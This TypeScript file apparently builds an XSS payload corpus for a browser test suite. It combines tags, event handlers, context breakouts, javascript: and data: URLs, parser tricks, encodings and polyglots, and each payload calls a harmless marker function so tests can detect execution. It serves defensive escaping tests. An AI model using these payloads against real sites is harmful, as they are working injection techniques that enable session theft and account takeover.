/**
 * The station's own XSS corpus (matrix row W1), generated here from small parts rather than
 * copied from a published list: tags × event handlers × quoting and case, context breakouts for
 * every kind of place a template can put text (element text, quoted and bare attributes,
 * textarea, title, style, script, comments), `javascript:` and `data:` URLs in every attribute
 * that takes one, srcdoc frames, MathML/SVG/template parser tricks, CSS, entity- and
 * percent-encoded forms, NUL and other odd code points, `<base>`, `<meta refresh>` and forms.
 *
 * Every payload, if it ever runs, calls `window.__xss(id)` (`top.__xss(id)` from inside frames and
 * `javascript:` URLs) with its own numeric id, so a test can name the payload that ran. Every
 * payload's text contains `xss(<id>)` literally (see `probeOf`), so a test can also find the
 * payload on a page as visible text.
 *
 * `sink` is the place a payload is written for: wrapping it raw in `SINKS[sink]` is what a
 * template that forgot to escape would produce. `auto` says that it runs there by itself in
 * today's Chromium, with no click or hover (the control in test/browser/xss.browser.test.ts
 * checks exactly this); the others are kept because older browsers, sanitizers or a second
 * parse have brought such payloads to life.
 */

export const SINKS = {
  html: '<div>{}</div>',
  'attr-dq': '<input value="{}">',
  'attr-sq': "<input value='{}'>",
  'attr-bare': '<input value={}>',
  textarea: '<textarea>{}</textarea>',
  title: '<title>{}</title>',
  style: '<style>p{color:{}}</style>',
  script: '<script>var s = "{}";</script>',
  comment: '<!-- {} -->',
  rawtext: '<xmp>{}</xmp>',
  url: '<iframe src="{}"></iframe>',
} as const;
export type Sink = keyof typeof SINKS;

export interface XssPayload {
  readonly id: number;
  readonly text: string;
  /** Which generator made it, for reports. */
  readonly family: string;
  readonly sink: Sink;
  readonly auto: boolean;
}

/** A substring that every payload's text contains verbatim. */
export function probeOf(p: Pick<XssPayload, 'id'>): string {
  return `xss(${p.id})`;
}

const W = (id: number) => `window.__xss(${id})`;
const T = (id: number) => `top.__xss(${id})`;

/** Mixed case for tag and attribute names: `onerror` → `OnErRoR`. */
function mixed(name: string): string {
  return [...name].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join('');
}

interface TagSpec {
  readonly before?: string;
  readonly tag: string;
  readonly attrs: readonly string[];
  readonly event: string;
  readonly after?: string;
  readonly auto: boolean;
}

/** Elements whose handler fires on its own once the element is parsed. */
const AUTO_TAGS: readonly TagSpec[] = [
  { tag: 'img', attrs: ['src=x'], event: 'onerror', auto: true },
  { tag: 'svg', attrs: [], event: 'onload', auto: true },
  { tag: 'body', attrs: [], event: 'onload', auto: true },
  { tag: 'body', attrs: [], event: 'onpageshow', auto: true },
  { tag: 'video', attrs: ['src=x'], event: 'onerror', auto: true },
  { tag: 'audio', attrs: ['src=x'], event: 'onerror', auto: true },
  { tag: 'input', attrs: ['autofocus'], event: 'onfocus', auto: true },
  { tag: 'select', attrs: ['autofocus'], event: 'onfocus', auto: true },
  { tag: 'textarea', attrs: ['autofocus'], event: 'onfocus', after: '</textarea>', auto: true },
  { tag: 'details', attrs: ['open'], event: 'ontoggle', after: '</details>', auto: true },
  { tag: 'iframe', attrs: [], event: 'onload', after: '</iframe>', auto: true },
  { tag: 'object', attrs: ['data=x'], event: 'onerror', after: '</object>', auto: true },
  { tag: 'script', attrs: ['src=x'], event: 'onerror', after: '</script>', auto: true },
  { tag: 'link', attrs: ['rel=stylesheet', 'href=x'], event: 'onerror', auto: true },
  { tag: 'style', attrs: [], event: 'onload', after: '</style>', auto: true },
  { tag: 'input', attrs: ['type=image', 'src=x'], event: 'onerror', auto: true },
  {
    before: '<svg>',
    tag: 'animate',
    attrs: ['attributeName=x', 'dur=1s'],
    event: 'onbegin',
    after: '</svg>',
    auto: true,
  },
  {
    before: '<svg>',
    tag: 'set',
    attrs: ['attributeName=x', 'to=1'],
    event: 'onbegin',
    after: '</svg>',
    auto: true,
  },
  {
    before: '<svg>',
    tag: 'image',
    attrs: ['href=x'],
    event: 'onerror',
    after: '</svg>',
    auto: true,
  },
  { tag: 'img', attrs: ['srcset=x'], event: 'onerror', auto: true },
];

/** Elements whose handler needs a person to point, click or type. */
const INTERACTIVE_TAGS: readonly TagSpec[] = [
  { tag: 'a', attrs: ['href=#x'], event: 'onmouseover', after: 'x</a>', auto: false },
  { tag: 'a', attrs: ['href=#x'], event: 'onclick', after: 'x</a>', auto: false },
  { tag: 'div', attrs: [], event: 'onpointerenter', after: 'x</div>', auto: false },
  { tag: 'button', attrs: [], event: 'onclick', after: 'x</button>', auto: false },
  { tag: 'p', attrs: ['contenteditable'], event: 'oninput', after: 'x</p>', auto: false },
  { tag: 'span', attrs: ['tabindex=0'], event: 'onkeydown', after: 'x</span>', auto: false },
  { tag: 'label', attrs: [], event: 'onmousemove', after: 'x</label>', auto: false },
  { tag: 'input', attrs: ['type=hidden', 'accesskey=x'], event: 'onclick', auto: false },
];

type Case = 'lower' | 'upper' | 'mixed';
type Quote = 'bare' | 'double' | 'single';

function renderTag(spec: TagSpec, call: string, sep: string, quote: Quote, kase: Case): string {
  const name = (n: string) =>
    kase === 'upper' ? n.toUpperCase() : kase === 'mixed' ? mixed(n) : n;
  // With `/` between attributes, values must be quoted: a bare value would swallow the slash.
  const vq = sep === '/' ? '"' : '';
  const attr = (a: string) => {
    const eq = a.indexOf('=');
    return eq === -1 ? name(a) : `${name(a.slice(0, eq))}=${vq}${a.slice(eq + 1)}${vq}`;
  };
  const q = quote === 'double' ? '"' : quote === 'single' ? "'" : '';
  const parts = [name(spec.tag), ...spec.attrs.map(attr), `${name(spec.event)}=${q}${call}${q}`];
  const selfClose = spec.before === '<svg>' ? ' /' : '';
  return `${spec.before ?? ''}<${parts.join(sep)}${selfClose}>${spec.after ?? ''}`;
}

/** Closers for the contexts a value may land in, with the sink each one escapes from. */
const CLOSERS: readonly [string, Sink][] = [
  ['">', 'attr-dq'],
  ['"/>', 'attr-dq'],
  ['"></input>', 'attr-dq'],
  ["'>", 'attr-sq'],
  ["'/>", 'attr-sq'],
  [' >', 'attr-bare'],
  ['</textarea>', 'textarea'],
  ['</TEXTAREA >', 'textarea'],
  ['</title>', 'title'],
  ['</tItLe\t>', 'title'],
  ['</style>', 'style'],
  ['}</style>', 'style'],
  ['";</script>', 'script'],
  ['</script>', 'script'],
  ['-->', 'comment'],
  ['--!>', 'comment'],
  ['</xmp>', 'rawtext'],
  ['</noscript>', 'html'],
  ['</template>', 'html'],
  ['</select>', 'html'],
  ['</option></select>', 'html'],
  ['</iframe>', 'html'],
  ['</noembed>', 'html'],
  [']]>', 'html'],
  ['</p></div></main>', 'html'],
];

const CORES: readonly ((id: number) => string)[] = [
  (id) => `<script>${W(id)}</script>`,
  (id) => `<img src=x onerror=${W(id)}>`,
  (id) => `<svg/onload=${W(id)}>`,
];

type UrlKind = 'javascript' | 'data' | 'vbscript';

/** Ways to write a `javascript:` or `data:` URL, each calling the marker from where it runs. */
const URLS: readonly [(id: number) => string, UrlKind][] = [
  [(id) => `javascript:${T(id)}`, 'javascript'],
  [(id) => `JaVaScRiPt:${T(id)}`, 'javascript'],
  [(id) => `java\tscript:${T(id)}`, 'javascript'],
  [(id) => `java\nscript:${T(id)}`, 'javascript'],
  [(id) => ` \u0001javascript:${T(id)}`, 'javascript'],
  [(id) => `&#106;avascript:${T(id)}`, 'javascript'],
  [(id) => `&#x6A;&#x61;vascript&#x3A;${T(id)}`, 'javascript'],
  [(id) => `javascript&colon;${T(id)}`, 'javascript'],
  [(id) => `jav&#x09;ascript:${T(id)}`, 'javascript'],
  [(id) => `javascript:%74op.__xss(${id})`, 'javascript'],
  [(id) => `javascript://%0a${T(id)}`, 'javascript'],
  [(id) => `javascript:void(0);${T(id)}`, 'javascript'],
  [(id) => `data:text/html,<script>${W(id)}</script>`, 'data'],
  [
    (id) =>
      `data:text/html;base64,${Buffer.from(`<script>${W(id)}</script>`).toString('base64')}#xss(${id})`,
    'data',
  ],
  [
    (id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${W(id)}'/>`,
    'data',
  ],
  [(id) => `vbscript:${T(id)}`, 'vbscript'],
];

/**
 * Elements that take a URL, and the kinds of URL they load by themselves in Chromium
 * (`javascript:` in object and embed is blocked; links and forms need a click).
 */
const URL_HOSTS: readonly [string, readonly UrlKind[]][] = [
  ['<iframe src="{u}"></iframe>', ['javascript', 'data']],
  ['<object data="{u}"></object>', ['data']],
  ['<embed src="{u}">', ['data']],
  ['<a href="{u}">x</a>', []],
  ['<form action="{u}"><button>x</button></form>', []],
  ['<svg><a href="{u}"><text y=20>x</text></a></svg>', []],
];

/**
 * Payloads that today's Chromium does not run even when written raw into their sink. They stay in
 * the corpus: older browsers ran them, and sanitizers or a second parse can bring them to life.
 */
const INERT = new WeakSet<(id: number) => string>();
function inert(make: (id: number) => string): (id: number) => string {
  INERT.add(make);
  return make;
}

export function buildXssPayloads(): XssPayload[] {
  const out: XssPayload[] = [];
  const add = (family: string, sink: Sink, auto: boolean, make: (id: number) => string) => {
    const id = out.length + 1;
    out.push({ id, text: make(id), family, sink, auto });
  };

  // Tags × handlers × quoting × case.
  for (const spec of AUTO_TAGS)
    for (const quote of ['bare', 'double', 'single'] as const)
      for (const kase of ['lower', 'mixed'] as const)
        add('tag-event', 'html', spec.auto, (id) => renderTag(spec, W(id), ' ', quote, kase));
  // … with other separators between the name and its attributes.
  for (const spec of AUTO_TAGS)
    for (const sep of ['/', '\n', '\f'])
      add('tag-separator', 'html', spec.auto, (id) => renderTag(spec, W(id), sep, 'bare', 'upper'));
  for (const spec of INTERACTIVE_TAGS)
    for (const quote of ['bare', 'double'] as const)
      add('tag-interactive', 'html', false, (id) => renderTag(spec, W(id), ' ', quote, 'lower'));

  // Script elements.
  const scripts: readonly ((id: number) => string)[] = [
    (id) => `<script>${W(id)}</script>`,
    (id) => `<SCRIPT>${W(id)}</SCRIPT>`,
    (id) => `<ScRiPt>${W(id)}</sCrIpT>`,
    (id) => `<script type=text/javascript>${W(id)}</script>`,
    (id) => `<script type=module>${W(id)}</script>`,
    (id) => `<script>/*-->*/${W(id)}</script>`,
    (id) => `<script\n>${W(id)}</script\n>`,
    (id) => `<script/x>${W(id)}</script>`,
    (id) => `<script src="data:text/javascript,${W(id)}"></script>`,
    (id) => `<script src=data:,${W(id)}></script>`,
    (id) => `<script nonce="AAAAAAAAAAAAAAAAAAAAAAAA">${W(id)}</script>`,
    (id) => `<script>setTimeout("${W(id)}")</script>`,
    (id) => `<script>eval('${W(id)}')</script>`,
    (id) => `<script>[].constructor.constructor('${W(id)}')()</script>`,
    (id) => `<script>\\u0077indow.__xss(${id})</script>`,
    inert((id) => `<script>/* </script> */${W(id)}</script>`),
  ];
  for (const s of scripts) add('script', 'html', !INERT.has(s), s);

  // Closing the surrounding context, then a live element.
  for (const [closer, sink] of CLOSERS)
    for (const core of CORES) add('breakout', sink, true, (id) => `${closer}${core(id)}`);

  // Attribute breakouts that add a handler to the element the value sits in.
  const handlers: readonly [(id: number) => string, boolean][] = [
    [(id) => `autofocus onfocus=${W(id)}`, true],
    [(id) => `onmouseover=${W(id)}`, false],
    [(id) => `style=animation-name:rj-spin onanimationstart=${W(id)}`, false],
    [(id) => `onpointerenter=${W(id)}`, false],
  ];
  const quotes: readonly [string, Sink][] = [
    ['"', 'attr-dq'],
    ["'", 'attr-sq'],
    ['', 'attr-bare'],
  ];
  for (const [q, sink] of quotes)
    for (const [h, auto] of handlers)
      for (const sep of [' ', '/', '\n'])
        // A bare value runs on over `/`: only whitespace ends it.
        add('attribute', sink, auto && !(q === '' && sep === '/'), (id) => {
          return `x${q}${sep}${h(id).replace(' ', sep)} x=${q}`;
        });

  // URLs as values and in every element that takes one.
  for (const [u, kind] of URLS) add('url', 'url', kind !== 'vbscript', u);
  for (const [host, loads] of URL_HOSTS)
    for (const [u, kind] of URLS)
      add('url-host', 'html', loads.includes(kind), (id) => host.replace('{u}', () => u(id)));

  // Frames whose content is given inline.
  const frames: readonly ((id: number) => string)[] = [
    (id) => `<iframe srcdoc="<script>${T(id)}</script>"></iframe>`,
    (id) => `<iframe srcdoc="&lt;script&gt;${T(id)}&lt;/script&gt;"></iframe>`,
    (id) => `<iframe srcdoc='<img src=x onerror=${T(id)}>'></iframe>`,
    (id) => `<iframe srcdoc="&#60;svg onload=${T(id)}&#62;"></iframe>`,
    (id) => `<IFRAME SRCDOC="<svg/onload=${T(id)}>"></IFRAME>`,
    (id) =>
      `<iframe srcdoc="<iframe srcdoc='&amp;lt;script&amp;gt;top.__xss(${id})&amp;lt;/script&amp;gt;'></iframe>"></iframe>`,
    (id) => `<iframe src="about:blank" onload="${W(id)}"></iframe>`,
    inert((id) => `<frameset onload=${W(id)}></frameset>`),
  ];
  for (const f of frames) add('frame', 'html', !INERT.has(f), f);

  // Parser tricks: foreign content, templates, and elements that change how text is parsed.
  const parser: readonly ((id: number) => string)[] = [
    inert((id) => `<math><mtext><table><mglyph><style><img src=x onerror=${W(id)}>`),
    (id) => `<svg><style><img src=x onerror=${W(id)}></style></svg>`,
    (id) => `<noscript><p title="</noscript><img src=x onerror=${W(id)}>">`,
    inert((id) => `<template><img src=x onerror=${W(id)}></template>`),
    inert((id) => `<template><script>${W(id)}</script></template>`),
    (id) => `<svg><script>${W(id)}</script></svg>`,
    (id) => `<svg><script href="data:,${W(id)}" /></svg>`,
    (id) => `<svg><foreignObject><img src=x onerror=${W(id)}></foreignObject></svg>`,
    inert((id) => `<math><mi href="javascript:${T(id)}">x</mi></math>`),
    inert(
      (id) =>
        `<math><maction actiontype=statusline xlink:href="javascript:${T(id)}">x</maction></math>`,
    ),
    inert(
      (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${W(id)}>`,
    ),
    (id) => `<xmp><p title="</xmp><img src=x onerror=${W(id)}>">`,
    (id) => `<svg></p><style><a id="</style><img src=1 onerror=${W(id)}>">`,
    inert((id) => `<svg><p><style><img src=x onerror=${W(id)}></p></svg>`),
    (id) => `<table><td><img src=x onerror=${W(id)}></td></table>`,
    inert((id) => `<select><template><img src=x onerror=${W(id)}></template></select>`),
    (id) => `<noembed><img title="</noembed><img src=x onerror=${W(id)}>"></noembed>`,
    (id) => `<!--><img src=x onerror=${W(id)}>-->`,
    (id) => `<![CDATA[><img src=x onerror=${W(id)}>]]>`,
    (id) => `<?xml ?><img src=x onerror=${W(id)}>`,
    inert((id) => `<a href="x" id="</a><img src=x onerror=${W(id)}>">x</a>`),
    (id) => `<div id="x"></div><img src=x onerror="${W(id)}">`,
  ];
  for (const p of parser) add('parser', 'html', !INERT.has(p), p);

  // CSS: style elements and attributes, and breaking out of them.
  const css: readonly [(id: number) => string, Sink][] = [
    [
      (id) =>
        `<style>@keyframes rj-spin{}</style><b style="animation-name:rj-spin" onanimationstart="${W(id)}">x</b>`,
      'html',
    ],
    [
      (id) =>
        `<style>@keyframes rj-spin{}</style><b style=animation-name:rj-spin;animation-duration:1ms onanimationend=${W(id)}>x</b>`,
      'html',
    ],
    [inert((id) => `<div style="background-image:url(javascript:${T(id)})">x</div>`), 'html'],
    [inert((id) => `<div style="width:expression(${W(id)})">x</div>`), 'html'],
    [inert((id) => `<style>@import 'javascript:${T(id)}';</style>`), 'html'],
    [(id) => `<link rel=stylesheet href="data:text/css,p{}" onload=${W(id)}>`, 'html'],
    [(id) => `<style>p{}</style><style onload=${W(id)}>p{}</style>`, 'html'],
    [
      (id) =>
        `<style>body{background:url("//xss.invalid/xss(${id})")}</style><img src=x onerror=${W(id)}>`,
      'html',
    ],
    [(id) => `red;}</style><img src=x onerror=${W(id)}>`, 'style'],
    [(id) => `red" onfocus="${W(id)}" autofocus x="`, 'attr-dq'],
    [inert((id) => `red;background:url(javascript:${T(id)})`), 'style'],
    [(id) => `red}</style><svg onload=${W(id)}>`, 'style'],
    [inert((id) => `<x style="behavior:url(#default#time2)" onbegin=${W(id)}>`), 'html'],
    [
      (id) =>
        `<svg><style>@import url(//xss.invalid/xss(${id}).css);</style><image href=x onerror=${W(id)} /></svg>`,
      'html',
    ],
  ];
  for (const [c, sink] of css) add('css', sink, !INERT.has(c), c);

  // Encoded forms: shown as text unless something decodes them a second time.
  const encoded: readonly ((id: number) => string)[] = [
    (id) => `&lt;script&gt;${W(id)}&lt;/script&gt;`,
    (id) => `&#60;img src=x onerror=${W(id)}&#62;`,
    (id) => `&#x3c;svg onload=${W(id)}&#x3e;`,
    (id) => `&#0000060;script&#0000062;${W(id)}&#0000060;/script&#0000062;`,
    (id) => `&amp;lt;script&amp;gt;${W(id)}&amp;lt;/script&amp;gt;`,
    (id) => `%3Cscript%3E${W(id)}%3C%2Fscript%3E`,
    (id) => `%253Cscript%253E${W(id)}%253C%252Fscript%253E`,
    (id) => `\\u003cscript\\u003e${W(id)}\\u003c/script\\u003e`,
    (id) => `\\x3cimg src=x onerror=${W(id)}\\x3e`,
    (id) => `+ADw-script+AD4-${W(id)}+ADw-/script+AD4-`,
    (id) => `&lt;img src=x onerror=${W(id)}&gt;`,
    (id) => `\\74svg onload=${W(id)}\\76`,
  ];
  for (const e of encoded) add('encoded', 'html', false, e);
  // … and encodings that a browser does decode inside a live element.
  const decoded: readonly ((id: number) => string)[] = [
    (id) => `<img src=x onerror=&#119;&#105;ndow.__xss(${id})>`,
    (id) => `<img src=x onerror="&#x77;indow&#x2e;__xss(${id})">`,
    (id) => `<svg onload=&#0000119;indow.__xss(${id})>`,
    (id) => `<img src=x onerror=\\u0077indow.__xss(${id})>`,
    (id) => `<img src=x onerror=window.\\u005f_xss(${id})>`,
    (id) => `<img src=x onerror=eval('\\x77indow.__xss(${id})')>`,
    (id) =>
      `<img src=x onerror=eval(atob('${Buffer.from(W(id)).toString('base64')}')) alt=xss(${id})>`,
    (id) => `<img src=x onerror=eval(decodeURIComponent('%77indow.__xss(${id})'))>`,
  ];
  for (const d of decoded) add('decoded', 'html', true, d);

  // NUL, invisible and look-alike code points.
  const odd: readonly [(id: number) => string, boolean][] = [
    [(id) => `<scr\u0000ipt>${W(id)}</scr\u0000ipt>`, false],
    [(id) => `<img src=x\u0000 onerror=${W(id)}>`, true],
    [(id) => `<img\u0000src=x onerror=${W(id)}>`, false],
    [(id) => `\u0000<script>${W(id)}</script>`, true],
    [(id) => `<img src=x onerror\f=${W(id)}>`, true],
    [(id) => `<svg\fonload=${W(id)}>`, true],
    [(id) => `<img src=x onerror=${W(id)}\u2028>`, true],
    [(id) => `\uFF1Cscript\uFF1E${W(id)}\uFF1C/script\uFF1E`, false],
    [(id) => `<scr\u200Bipt>${W(id)}</scr\u200Bipt>`, false],
    [(id) => `<img src=x on\u200Berror=${W(id)}>`, false],
    [(id) => `<svg onload=${W(id)}\u00A0>`, true],
    [(id) => `\uFEFF<script>\uFEFF${W(id)}</script>`, true],
    [(id) => `<\u017Fcript>${W(id)}</\u017Fcript>`, false],
    // Not a tag (no ASCII letter first), so what follows is markup again.
    [(id) => `<\u0131frame srcdoc="<script>${T(id)}</script>">`, true],
    [(id) => `\u202E<script>${W(id)}</script>\u202C`, true],
    [(id) => `<script\u0301>${W(id)}</script>`, false],
    [(id) => `\u{1F600}<svg onload=${W(id)}>\u{1F600}`, true],
    [(id) => `<img src=x onerror=${W(id)}\u0000>`, false],
    [(id) => `\r\n<script>${W(id)}</script>\r\n`, true],
    [(id) => `<img src=x\tonerror=${W(id)}\t>`, true],
  ];
  for (const [o, auto] of odd) add('code-points', 'html', auto, o);

  // Base URLs, refreshes, CSP meta tags and forms.
  const documentLevel: readonly [(id: number) => string, boolean][] = [
    [(id) => `<base href="//xss.invalid/"><img src="xss(${id}).png" onerror=${W(id)}>`, true],
    [(id) => `<base href="javascript:${T(id)}//"><a href="x">x</a>`, false],
    [(id) => `<meta http-equiv="refresh" content="0;url=javascript:${T(id)}">`, false],
    [
      (id) => `<meta http-equiv=refresh content="0; url=data:text/html,<script>${W(id)}</script>">`,
      false,
    ],
    [
      (id) =>
        `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${W(id)}</script>`,
      true,
    ],
    [(id) => `<meta charset="utf-7">+ADw-script+AD4-${W(id)}+ADw-/script+AD4-`, false],
    [(id) => `<form action="javascript:${T(id)}"><input type=submit></form>`, false],
    [
      (id) => `<form id=rj-f></form><button form=rj-f formaction="javascript:${T(id)}">x</button>`,
      false,
    ],
    [
      (id) =>
        `<form action="//xss.invalid/xss(${id})"><input name=q autofocus onfocus=${W(id)}></form>`,
      true,
    ],
    [(id) => `<isindex type=image src=x onerror=${W(id)}>`, false],
    [(id) => `<object type=text/html data="javascript:${T(id)}"></object>`, false],
    [
      (id) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='${W(id)}'/>">`,
      false,
    ],
    [
      (id) => `<a href="//xss.invalid/xss(${id})" ping="//xss.invalid/" onclick=${W(id)}>x</a>`,
      false,
    ],
    [(id) => `<img src="//xss.invalid/xss(${id}).png" onerror=${W(id)}>`, true],
  ];
  for (const [d, auto] of documentLevel) add('document', 'html', auto, d);

  // Template languages and script-string contexts.
  const strings: readonly [(id: number) => string, Sink, boolean][] = [
    [(id) => `{{constructor.constructor('${W(id)}')()}}`, 'html', false],
    [(id) => `\${${W(id)}}`, 'html', false],
    [(id) => `#{${W(id)}}`, 'html', false],
    [(id) => `<%= ${W(id)} %>`, 'html', false],
    [(id) => `{{${W(id)}}}`, 'html', false],
    [(id) => `";${W(id)};//`, 'script', true],
    // Breaks out only where a template escapes quotes but not backslashes.
    [(id) => `\\";${W(id)};//`, 'script', false],
    [(id) => `"-${W(id)}-"`, 'script', true],
    [(id) => `'-${W(id)}-'`, 'html', false],
    [(id) => `';${W(id)};//`, 'html', false],
    [(id) => `\`;${W(id)};//`, 'html', false],
    [(id) => `"+${W(id)}+"`, 'script', true],
  ];
  for (const [s, sink, auto] of strings) add('string', sink, auto, s);

  // Close-everything prefixes (written for this corpus) followed by a live element.
  const prefixes = [
    `'"--></title></style></textarea></script></xmp>`,
    `"'>--!></noscript></template></select></iframe>`,
    `*/-->]]></option></noembed></TEXTAREA></TITLE>`,
    `\`'";}\n</style><!-- -->`,
  ];
  for (const prefix of prefixes)
    for (const core of CORES) add('polyglot', 'html', true, (id) => `${prefix}${core(id)}`);

  return out;
}

export const XSS_PAYLOADS: readonly XssPayload[] = buildXssPayloads();
